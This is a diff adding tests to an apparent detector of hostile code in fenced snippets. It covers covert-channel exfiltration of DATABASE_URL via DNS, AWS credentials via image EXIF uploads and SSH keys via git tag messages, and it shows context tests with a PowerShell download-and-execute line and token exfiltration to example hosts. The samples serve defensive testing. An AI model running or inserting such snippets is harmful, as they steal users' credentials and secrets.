@@ -302,6 +302,12 @@ describe('behaviour read through disguises', () => {
     expect(threats(fence('csharp', 'Process.Start("powershell", "-nop -c iex(iwr https://x.example.net/a.ps1)");'))).toEqual(['threat/download-exec 8:1 error']);
     expect(threats(fence('ruby', 'puts `git status`\nsystem("bundle", "install")'))).toEqual([]);
   });
+  it('follows connection strings, image metadata and tag messages into covert channels', () => {
+    expect(threats(fence('python', 'import os, dns.resolver\nsecret = os.environ.get("DATABASE_URL", "")\ndns.resolver.resolve(secret.encode().hex()[:60] + ".x.example.net", "TXT")'))).toEqual(['threat/covert-channel 10:1 error']);
+    expect(threats(fence('python', 'import piexif, os, requests\nexif = {"Exif": {piexif.ExifIFD.UserComment: open(os.path.expanduser("~/.aws/credentials"), "rb").read()}}\npiexif.insert(piexif.dump(exif), "shot.jpg")\nrequests.post("https://img.example.net/upload", files={"f": open("shot.jpg", "rb")})'))).toEqual(['threat/covert-channel 11:1 error']);
+    expect(threats(fence('bash', 'k=$(base64 -w0 ~/.ssh/id_rsa)\ngit tag -a v0.0.1 -m "$k"\ngit push https://github.com/someone/reg.git --tags'))).toEqual(['threat/covert-channel 10:1 error']);
+    expect(threats(fence('bash', 'psql "$DATABASE_URL" -c "select 1"'))).toEqual([]);
+  });
   it('counts inline-required clients and opened browsers as sinks', () => {
     expect(threats(fence('js', 'const { execSync } = require("child_process");\nconst t = execSync("cat ~/.npmrc").toString();\nrequire("https").get("https://x.example.net/?d=" + encodeURIComponent(t));'))).toEqual(['threat/exfiltration 10:1 error']);
     expect(threats(fence('python', 'import os, webbrowser\nwebbrowser.open("https://x.example.net/?t=" + os.environ["GITHUB_TOKEN"])'))).toEqual(['threat/exfiltration 9:1 error']);
